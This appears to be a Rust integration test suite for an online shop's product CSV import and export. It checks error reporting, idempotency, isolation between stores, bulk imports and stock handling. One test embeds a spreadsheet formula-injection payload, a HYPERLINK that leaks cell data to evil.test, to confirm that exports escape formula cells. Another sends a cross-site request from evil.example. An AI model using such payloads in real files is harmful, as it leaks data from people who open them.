//! Product CSV import and export over real HTTP, on SQLite and PostgreSQL: a file with one bad
//! row imports the other rows and reports the bad line with its reason; importing it again
//! updates (a changed price applies) and duplicates nothing; a retried upload (same key) starts
//! no second job; a wrong header, a Windows-1252 file or a file over 25 MB is refused with a
//! message and writes nothing; another store's products are never exported nor touched; and
//! 100 000 rows import completely while /healthz and a storefront page keep answering; the export
//! escapes cells a spreadsheet would run as formulas, and imports back to the same values; a
//! re-import keeps the sales made since the export, and a stock changed in the file after a sale
//! is refused with the current stock.
#[macro_use]
mod support;

use app::domain::product_csv::{COLUMNS, EXPORT_COLUMNS, ImportJobView};
use server::store::Database;
use support::{OWNER_A, OWNER_B, TestApp};

conformance!(multi_thread;
    a_bad_row_is_reported_by_line_and_the_rest_is_imported_then_reimport_updates,
    a_wrong_header_bad_encoding_or_huge_file_is_refused_and_nothing_is_written,
    another_store_is_never_exported_or_touched,
    a_hundred_thousand_rows_import_while_the_shop_keeps_answering,
    the_export_escapes_formulas_and_imports_back_to_the_same_text,
    a_reimport_keeps_the_sales_made_since_the_export,
);

const BOUNDARY: &str = "----shop-test-boundary-7f3a";

fn multipart(key: &str, file: &[u8]) -> Vec<u8> {
    let mut body = Vec::new();
    body.extend_from_slice(
        format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"idempotency_key\"\r\n\r\n{key}\r\n\
             --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"products.csv\"\r\n\
             Content-Type: text/csv\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(file);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// POSTs the file as the import page's form does; returns (status, Location).
async fn upload(app: &TestApp, cookie: &str, path: &str, key: &str, file: &[u8]) -> (u16, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let body = multipart(key, file);
    let head = format!(
        "POST {path} HTTP/1.0\r\nHost: {addr}\r\nOrigin: http://{addr}\r\nCookie: {cookie}\r\n\
         Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {}\r\n\r\n",
        body.len(),
        addr = app.addr
    );
    let stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let (mut reader, mut writer) = stream.into_split();
    let send = async move {
        let _ = writer.write_all(head.as_bytes()).await;
        let _ = writer.write_all(&body).await;
        writer
    };
    let mut raw = Vec::new();
    let work = async { tokio::join!(send, reader.read_to_end(&mut raw)) };
    let (_, read) = tokio::time::timeout(std::time::Duration::from_secs(120), work).await.expect("upload answered");
    if let Err(e) = read {
        eprintln!("reading the upload's answer: {e}");
    }
    let text = String::from_utf8_lossy(&raw).to_string();
    let status = text.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let location = text
        .lines()
        .take_while(|l| !l.is_empty())
        .find_map(|l| l.strip_prefix("location: ").or_else(|| l.strip_prefix("Location: ")))
        .unwrap_or_default()
        .trim()
        .to_string();
    (status, location)
}

fn job_id(location: &str) -> i64 {
    location.rsplit("job=").next().and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("no job in {location:?}"))
}

async fn status(app: &TestApp, cookie: &str, store: Option<i64>, job: i64) -> Option<ImportJobView> {
    let job = job.to_string();
    let store = store.map(|s| s.to_string());
    let mut form = vec![("job", job.as_str())];
    if let Some(s) = &store {
        form.push(("merchant_id", s.as_str()));
    }
    let res = app.call(cookie, "/api/admin/products/import/status", &form).await;
    assert_eq!(res.status, 200, "{}", res.body);
    serde_json::from_str(&res.body).unwrap()
}

/// Polls the job until it ends (the job runs on the server's runtime).
async fn finished(app: &TestApp, cookie: &str, job: i64) -> ImportJobView {
    for _ in 0..2400 {
        let j = status(app, cookie, None, job).await.expect("the store's job");
        if j.status.as_str() != "running" {
            return j;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("import job {job} did not finish");
}

async fn count(db: &Database, sql: &str) -> i64 {
    db.scalar_raw(sql).await.unwrap()
}

/// The data records of an exported CSV.
fn records(body: &str) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    // The required columns, then the stock at export (which keeps a re-import from undoing sales).
    assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), EXPORT_COLUMNS.to_vec());
    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

async fn a_category(app: &TestApp) -> String {
    let mut slugs = app.shop.product_import.category_slugs().await.unwrap();
    slugs.sort();
    slugs[0].0.clone()
}

fn five_rows(cat: &str, tote_small_price: &str) -> String {
    format!(
        "{}\n\
         csv-linen-tote,Linen Tote,\"A sturdy, washable bag.\",{cat},published,Size,Small,CSV-TOTE-S,{tote_small_price},,5\n\
         csv-linen-tote,,,,,,Large,CSV-TOTE-L,29.50,35.00,3\n\
         csv-stoneware-mug,Stoneware Mug,\"Holds 350 ml.\nDishwasher safe.\",{cat},draft,,,CSV-MUG,12.5,,40\n\
         csv-brass-lamp,Brass Lamp,,{cat},published,,,CSV-LAMP,abc,,2\n\
         csv-glass-vase,Glass Vase,,{cat},published,,,CSV-VASE,18,,7\n",
        COLUMNS.join(",")
    )
}

async fn a_bad_row_is_reported_by_line_and_the_rest_is_imported_then_reimport_updates(db: Database) {
    let app = support::spawn_app_on(db.clone(), Default::default()).await;
    let a = app.login(OWNER_A.0, OWNER_A.1).await;
    let store_a = app.store_of(OWNER_A.0).await;
    let cat = a_category(&app).await;
    let variants_before = count(&db, "SELECT COUNT(*) FROM product_variants").await;

    let (code, location) =
        upload(&app, &a, "/admin/products/import", "csv-import-key-0001", five_rows(&cat, "24.00").as_bytes()).await;
    assert_eq!(code, 303);
    assert!(location.starts_with("/admin/products/import?job="), "{location}");
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!(job.status.as_str(), "done", "{job:?}");
    assert_eq!((job.total_rows, job.rows_done, job.ok_rows, job.failed_rows), (5, 5, 4, 1), "{job:?}");
    assert_eq!(job.errors.len(), 1);
    // The lamp is on line 6: the header is line 1 and the mug's description spans lines 4 and 5.
    assert_eq!(job.errors[0].line, 6, "{job:?}");
    assert_eq!(job.errors[0].text(), "line 6: price must be a number like 12.50, got 'abc'");
    assert_eq!(job.errors[0].sku, "CSV-LAMP");
    let ours = format!("SELECT COUNT(*) FROM product_variants WHERE merchant_id = {store_a} AND sku LIKE 'CSV-%'");
    assert_eq!(count(&db, &ours).await, 4);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM product_variants").await, variants_before + 4);
    assert_eq!(count(&db, "SELECT price_minor FROM product_variants WHERE sku = 'CSV-MUG'").await, 1250);
    assert_eq!(count(&db, "SELECT compare_at_minor FROM product_variants WHERE sku = 'CSV-TOTE-L'").await, 3500);
    let tote = count(&db, "SELECT id FROM products WHERE slug = 'csv-linen-tote'").await;
    let form = app.shop.products_admin.product_form(tote).await.unwrap().unwrap();
    assert_eq!(form.input.option_name, "Size");
    assert_eq!(form.input.variants.len(), 2);
    // The page shows the job and its refused row to the store.
    let page = app.get_as(&a, &location).await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("price must be a number like 12.50, got &#x27;abc&#x27;") || page.body.contains("got 'abc'")
    );

    // A retried upload (same key) finds the same job and starts nothing.
    let jobs = count(&db, "SELECT COUNT(*) FROM import_jobs").await;
    let (_, again) =
        upload(&app, &a, "/admin/products/import", "csv-import-key-0001", five_rows(&cat, "99.00").as_bytes()).await;
    assert_eq!(job_id(&again), job.id);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM import_jobs").await, jobs);

    // Importing again with a new price updates and duplicates nothing.
    let products = count(&db, "SELECT COUNT(*) FROM products").await;
    let (_, location) =
        upload(&app, &a, "/admin/products/import", "csv-import-key-0002", five_rows(&cat, "25.00").as_bytes()).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!((job.ok_rows, job.failed_rows), (4, 1), "{job:?}");
    assert_eq!(count(&db, &ours).await, 4);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM products").await, products);
    assert_eq!(count(&db, "SELECT price_minor FROM product_variants WHERE sku = 'CSV-TOTE-S'").await, 2500);

    // The export round-trips: importing it changes nothing and refuses nothing.
    let export = app.get_as(&a, "/admin/products/export.csv").await;
    assert_eq!(export.status, 200);
    assert!(export.header("content-disposition").unwrap().starts_with("attachment"));
    assert!(export.header("content-type").unwrap().starts_with("text/csv"));
    assert!(export.body.starts_with(&COLUMNS.join(",")), "{}", &export.body[..200.min(export.body.len())]);
    assert!(export.body.contains("csv-linen-tote,Linen Tote,\"A sturdy, washable bag.\""));
    assert!(export.body.contains("CSV-TOTE-S,25.00,,5"));
    let all = count(&db, &format!("SELECT COUNT(*) FROM product_variants WHERE merchant_id = {store_a}")).await;
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-import-key-0003", export.body.as_bytes()).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!((job.total_rows, job.ok_rows, job.failed_rows), (all, all, 0), "{:?}", job.errors.first());
    assert_eq!(count(&db, "SELECT COUNT(*) FROM products").await, products);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM product_variants").await, variants_before + 4);
}

async fn a_wrong_header_bad_encoding_or_huge_file_is_refused_and_nothing_is_written(db: Database) {
    let app = support::spawn_app_on(db.clone(), Default::default()).await;
    let a = app.login(OWNER_A.0, OWNER_A.1).await;
    let cat = a_category(&app).await;
    let before = count(&db, "SELECT COUNT(*) FROM product_variants").await;

    let wrong = format!(
        "handle,title,description,category,status,option_names,option_values,sku,price,colour\nx,X,,{cat},draft,,,X-1,1,red\n"
    );
    let (code, location) = upload(&app, &a, "/admin/products/import", "csv-header-key-01", wrong.as_bytes()).await;
    assert_eq!(code, 303);
    let job = status(&app, &a, None, job_id(&location)).await.unwrap();
    assert_eq!(job.status.as_str(), "rejected");
    assert!(job.message.contains(&COLUMNS.join(",")), "{}", job.message);
    assert!(
        job.message.contains("missing compare_at_price, stock") && job.message.contains("unknown colour"),
        "{}",
        job.message
    );

    let mut latin = format!("{}\n", COLUMNS.join(",")).into_bytes();
    latin.extend_from_slice(format!("cafe-mug,Cafe Mug,,{cat},draft,,,CAFE-1,4.00,,1\n").as_bytes());
    latin.extend_from_slice(format!("creme-jug,Cr\u{e8}me Jug,,{cat},draft,,,CREME-1,4.00,,1\n").as_bytes());
    let at = latin.iter().position(|b| *b == 0xC3).unwrap();
    latin.splice(at..at + 2, [0xE8]); // "è" as Windows-1252 writes it
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-latin-key-001", &latin).await;
    let job = status(&app, &a, None, job_id(&location)).await.unwrap();
    assert_eq!(job.status.as_str(), "rejected");
    assert!(job.message.contains("not UTF-8") && job.message.contains("line 3"), "{}", job.message);

    let huge = vec![b'a'; app::domain::product_csv::MAX_UPLOAD_BYTES + 1024];
    let (code, location) = upload(&app, &a, "/admin/products/import", "csv-huge-key-0001", &huge).await;
    assert_eq!(code, 303, "{location}");
    let job = status(&app, &a, None, job_id(&location)).await.unwrap();
    assert!(job.message.contains("larger than 25 MB"), "{}", job.message);

    assert_eq!(count(&db, "SELECT COUNT(*) FROM product_variants").await, before);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM import_job_errors").await, 0);
    // A cross-site post is refused before it is read.
    let res =
        app.request("POST", "/admin/products/import", &[("Cookie", &a), ("Origin", "https://evil.example")], "x").await;
    assert_eq!(res.status, 403);
    // Without a session: off to sign in.
    let (code, location) = upload(&app, "", "/admin/products/import", "csv-anon-key-0001", wrong.as_bytes()).await;
    assert_eq!((code, location.as_str()), (303, "/login?next=/admin/products/import"));
}

async fn another_store_is_never_exported_or_touched(db: Database) {
    let app = support::spawn_app_on(db.clone(), Default::default()).await;
    let a = app.login(OWNER_A.0, OWNER_A.1).await;
    let b = app.login(OWNER_B.0, OWNER_B.1).await;
    let store_a = app.store_of(OWNER_A.0).await;
    let store_b = app.store_of(OWNER_B.0).await;
    let cat = a_category(&app).await;
    let b_export = records(&app.get_as(&b, "/admin/products/export.csv").await.body);
    let (b_handle, b_sku) = (b_export[0][0].clone(), b_export[0][7].clone());
    let b_price = count(
        &db,
        &format!("SELECT price_minor FROM product_variants WHERE merchant_id = {store_b} AND sku = '{b_sku}'"),
    )
    .await;

    // A's export holds only A's products, one record per variant.
    let export = records(&app.get_as(&a, "/admin/products/export.csv").await.body);
    let a_variants = count(&db, &format!("SELECT COUNT(*) FROM product_variants WHERE merchant_id = {store_a}")).await;
    assert_eq!(export.len() as i64, a_variants);
    assert!(export.iter().all(|r| r[0] != b_handle && r[7] != b_sku), "B's product in A's export");

    // A cannot take B's handle; B's SKU in A's file is A's own new variant (SKUs are per store).
    let file = format!(
        "{}\n{b_handle},Taken,,{cat},draft,,,A-TAKES-HANDLE,1.00,,1\nour-own-{b_handle},Ours,,{cat},draft,,,{b_sku},1.00,,1\n",
        COLUMNS.join(",")
    );
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-other-key-001", file.as_bytes()).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!((job.ok_rows, job.failed_rows), (1, 1), "{job:?}");
    assert!(
        job.errors[0].text().starts_with("line 2: handle") && job.errors[0].message.contains("already used"),
        "{job:?}"
    );
    let b_after = count(
        &db,
        &format!("SELECT price_minor FROM product_variants WHERE merchant_id = {store_b} AND sku = '{b_sku}'"),
    )
    .await;
    assert_eq!(b_after, b_price, "B's variant was touched");
    let b_owner = count(&db, &format!("SELECT merchant_id FROM products WHERE slug = '{b_handle}'")).await;
    assert_eq!(b_owner, store_b);
    let a_copy =
        count(&db, &format!("SELECT COUNT(*) FROM product_variants WHERE merchant_id = {store_a} AND sku = '{b_sku}'"))
            .await;
    assert_eq!(a_copy, 1);

    // B sees neither A's job nor A's export; asking for store A is refused.
    assert_eq!(status(&app, &b, None, job.id).await, None);
    let res = app
        .call(
            &b,
            "/api/admin/products/import/status",
            &[("job", &job.id.to_string()), ("merchant_id", &store_a.to_string())],
        )
        .await;
    assert_eq!(res.status, 403);
    let res = app.get_as(&b, &format!("/admin/products/export.csv?store={store_a}")).await;
    assert_eq!(res.status, 403);
    let (code, _) =
        upload(&app, &b, &format!("/admin/products/import?store={store_a}"), "csv-b-as-a-key-01", file.as_bytes())
            .await;
    assert_eq!(code, 403);
    let b_export = records(&app.get_as(&b, "/admin/products/export.csv").await.body);
    assert!(b_export.iter().all(|r| !r[0].starts_with("our-own-")), "A's product in B's export");
}

async fn a_hundred_thousand_rows_import_while_the_shop_keeps_answering(db: Database) {
    let app = support::spawn_app_on(db.clone(), Default::default()).await;
    let a = app.login(OWNER_A.0, OWNER_A.1).await;
    let store_a = app.store_of(OWNER_A.0).await;
    let cat = a_category(&app).await;
    let mut file = format!("{}\n", COLUMNS.join(","));
    // 25 000 products of 4 sizes each.
    for p in 0..25_000 {
        for (i, size) in ["S", "M", "L", "XL"].iter().enumerate() {
            let title = if i == 0 { format!("Bulk Shirt {p}") } else { String::new() };
            let cat = if i == 0 { cat.as_str() } else { "" };
            file.push_str(&format!(
                "bulk-shirt-{p},{title},,{cat},published,Size,{size},BULK-{p}-{size},{}.{:02},,{}\n",
                10 + p % 50,
                i * 25,
                p % 7
            ));
        }
    }
    let (code, location) = upload(&app, &a, "/admin/products/import", "csv-bulk-key-0001", file.as_bytes()).await;
    assert_eq!(code, 303);
    let id = job_id(&location);
    let mut answered_while_running = 0;
    let job = loop {
        let job = status(&app, &a, None, id).await.unwrap();
        if job.status.as_str() != "running" {
            break job;
        }
        let health = app.get("/healthz").await;
        assert_eq!(health.status, 200, "{}", health.body);
        let home = app.get("/").await;
        assert_eq!(home.status, 200);
        let search = app.get("/search?q=lamp").await;
        assert_eq!(search.status, 200);
        answered_while_running += 1;
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert_eq!(job.status.as_str(), "done", "{job:?}");
    assert_eq!((job.total_rows, job.rows_done, job.ok_rows, job.failed_rows), (100_000, 100_000, 100_000, 0));
    assert!(answered_while_running > 0, "the job ended before the shop was asked anything");
    let sql = format!("SELECT COUNT(*) FROM product_variants WHERE merchant_id = {store_a} AND sku LIKE 'BULK-%'");
    assert_eq!(count(&db, &sql).await, 100_000);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM products WHERE slug LIKE 'bulk-shirt-%'").await, 25_000);
}

/// Writes records (a header first) as a CSV file.
fn csv_file(records: &[Vec<String>]) -> Vec<u8> {
    let mut out = csv::Writer::from_writer(Vec::new());
    for r in records {
        out.write_record(r).unwrap();
    }
    out.into_inner().unwrap()
}

fn export_file(records: &[Vec<String>]) -> Vec<u8> {
    let mut all = vec![EXPORT_COLUMNS.iter().map(|c| c.to_string()).collect::<Vec<_>>()];
    all.extend(records.iter().cloned());
    csv_file(&all)
}

async fn the_export_escapes_formulas_and_imports_back_to_the_same_text(db: Database) {
    let app = support::spawn_app_on(db.clone(), Default::default()).await;
    let a = app.login(OWNER_A.0, OWNER_A.1).await;
    let cat = a_category(&app).await;
    let title = r#"=HYPERLINK("http://evil.test/?leak="&A1,"Click")"#;
    let file = csv_file(&[
        COLUMNS.iter().map(|c| c.to_string()).collect(),
        ["csv-formula", title, "@SUM(1+1)", &cat, "published", "Size", "-5 cm", "CSV-F-1", "10.00", "", "4"]
            .map(String::from)
            .to_vec(),
        ["csv-formula", "", "", "", "", "", "+1 size", "CSV-F-2", "11.00", "", "4"].map(String::from).to_vec(),
        ["csv-quoted", "''=twice quoted", "'\tTabbed", &cat, "draft", "", "", "CSV-Q", "1.00", "", "1"]
            .map(String::from)
            .to_vec(),
    ]);
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-formula-key-01", &file).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!((job.ok_rows, job.failed_rows), (3, 0), "{job:?}");
    let stored = |slug: &str| {
        let db = db.clone();
        let slug = slug.to_string();
        async move {
            let id = count(&db, &format!("SELECT id FROM products WHERE slug = '{slug}'")).await;
            let form =
                app::services::product_admin_store::ProductAdminStore::product_form(db.products_admin().as_ref(), id)
                    .await
                    .unwrap()
                    .unwrap();
            form.input
        }
    };
    assert_eq!(stored("csv-formula").await.title, title, "stored as typed");
    // A file's '= is a spreadsheet's "this is text": one apostrophe is dropped on import.
    assert_eq!(stored("csv-quoted").await.title, "'=twice quoted");

    // Over HTTP: no cell of the file starts like a formula; ours carry the apostrophe.
    let export = app.get_as(&a, "/admin/products/export.csv").await;
    assert_eq!(export.status, 200);
    let records = records(&export.body);
    for r in &records {
        for cell in r {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
    let row = |sku: &str| records.iter().find(|r| r[7] == sku).unwrap().clone();
    assert_eq!(row("CSV-F-1")[1], format!("'{title}"));
    assert_eq!(row("CSV-F-1")[2], "'@SUM(1+1)");
    assert_eq!(row("CSV-F-1")[6], "'-5 cm");
    assert_eq!(row("CSV-F-2")[6], "'+1 size");
    assert_eq!(row("CSV-Q")[1], "''=twice quoted", "an apostrophe already there is kept, one more added");
    assert_eq!(row("CSV-Q")[2], "'\tTabbed");
    assert!(!export.body.contains(",=HYPERLINK") && !export.body.contains("\"=HYPERLINK"));

    // Importing the export gives back exactly what was stored.
    let before = (stored("csv-formula").await, stored("csv-quoted").await);
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-formula-key-02", export.body.as_bytes()).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!(job.failed_rows, 0, "{job:?}");
    let after = (stored("csv-formula").await, stored("csv-quoted").await);
    assert_eq!(after, before);
    assert_eq!(after.0.title, title);
    assert_eq!(after.0.description, "@SUM(1+1)");
    assert_eq!(after.0.variants[0].option, "-5 cm");
    assert_eq!(after.1.title, "'=twice quoted");
}

async fn a_reimport_keeps_the_sales_made_since_the_export(db: Database) {
    let app = support::spawn_app_on(db.clone(), Default::default()).await;
    let a = app.login(OWNER_A.0, OWNER_A.1).await;
    let cat = a_category(&app).await;
    let file = format!("{}\ncsv-stock-lamp,Stock Lamp,,{cat},published,,,CSV-STOCK,20.00,,10\n", COLUMNS.join(","));
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-stock-key-001", file.as_bytes()).await;
    assert_eq!(finished(&app, &a, job_id(&location)).await.ok_rows, 1);
    let variant = count(&db, "SELECT id FROM product_variants WHERE sku = 'CSV-STOCK'").await;
    let stock = || count(&db, "SELECT stock FROM product_variants WHERE sku = 'CSV-STOCK'");

    // Export (stock 10), then a shopper buys 3.
    let export = app.get_as(&a, "/admin/products/export.csv").await;
    let mut ours = records(&export.body).into_iter().find(|r| r[7] == "CSV-STOCK").unwrap();
    assert_eq!((ours[10].as_str(), ours[11].as_str()), ("10", "10"));
    let sale =
        support::guest_checkout(vec![(variant, 3)], "4242 4242 4242 4242", "stock-sale-001", 1_800_000_000, [7; 8]);
    let out = app::services::checkout::place_order(
        db.orders().as_ref(),
        &app::domain::gateway::TestGateway,
        &Default::default(),
        sale,
    )
    .await
    .unwrap();
    assert!(matches!(out, app::services::checkout::CheckoutOutcome::Paid { .. }), "{out:?}");
    assert_eq!(stock().await, 7);

    // Importing the file as exported keeps the sale.
    let (_, location) =
        upload(&app, &a, "/admin/products/import", "csv-stock-key-002", &export_file(&[ours.clone()])).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!((job.ok_rows, job.failed_rows), (1, 0), "{job:?}");
    assert_eq!(stock().await, 7, "the sale made after the export is not undone");

    // A stock changed in the file after the sale is refused, with the current stock; nothing written.
    ours[10] = "12".into();
    ours[1] = "Renamed Lamp".into();
    let (_, location) =
        upload(&app, &a, "/admin/products/import", "csv-stock-key-003", &export_file(&[ours.clone()])).await;
    let job = finished(&app, &a, job_id(&location)).await;
    assert_eq!((job.ok_rows, job.failed_rows), (0, 1), "{job:?}");
    let message = &job.errors[0].message;
    assert!(message.contains("changed since the export") && message.contains("it is 7 now"), "{message}");
    assert_eq!(stock().await, 7);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM products WHERE title = 'Renamed Lamp'").await, 0);

    // Reviewed: exported_stock set to the current stock, the new stock applies.
    ours[11] = "7".into();
    let (_, location) =
        upload(&app, &a, "/admin/products/import", "csv-stock-key-004", &export_file(&[ours.clone()])).await;
    assert_eq!(finished(&app, &a, job_id(&location)).await.ok_rows, 1);
    assert_eq!(stock().await, 12);
    let history = format!("SELECT delta FROM stock_adjustments WHERE variant_id = {variant} ORDER BY id DESC LIMIT 1");
    assert_eq!(count(&db, &history).await, 5);

    // A file without exported_stock states a count (a stocktake): it replaces the stock.
    let file = format!("{}\ncsv-stock-lamp,Stock Lamp,,{cat},published,,,CSV-STOCK,20.00,,30\n", COLUMNS.join(","));
    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-stock-key-005", file.as_bytes()).await;
    assert_eq!(finished(&app, &a, job_id(&location)).await.ok_rows, 1);
    assert_eq!(stock().await, 30);
}
